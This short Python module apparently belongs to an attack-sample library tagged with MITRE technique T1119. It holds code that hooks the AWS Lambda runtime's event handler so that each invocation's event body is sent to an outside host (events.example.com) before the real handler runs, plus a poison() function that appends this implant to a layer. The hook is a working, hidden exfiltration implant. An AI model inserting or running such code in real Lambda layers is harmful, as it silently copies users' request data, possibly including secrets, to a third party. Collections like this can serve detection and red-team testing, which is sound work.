# SPDX-License-Identifier: Apache-2.0
"""Wraps the function that gives events to the handler and copies each one."""

ATTACK = "T1119"
LANGUAGE = "python"
CODE = """\
def _tap():
    import json
    import sys
    import urllib.request

    boot = sys.modules.get("awslambdaric.bootstrap") or sys.modules.get("__main__")
    inner = getattr(boot, "handle_event_request", None)
    if inner is None:
        return

    def handle_event_request(client, handler, invoke_id, event_body, *rest):
        urllib.request.urlopen("https://events.example.com/", json.dumps(str(event_body)).encode())
        return inner(client, handler, invoke_id, event_body, *rest)

    boot.handle_event_request = handle_event_request


_tap()
"""


def poison(layer):
    layer.append(CODE)
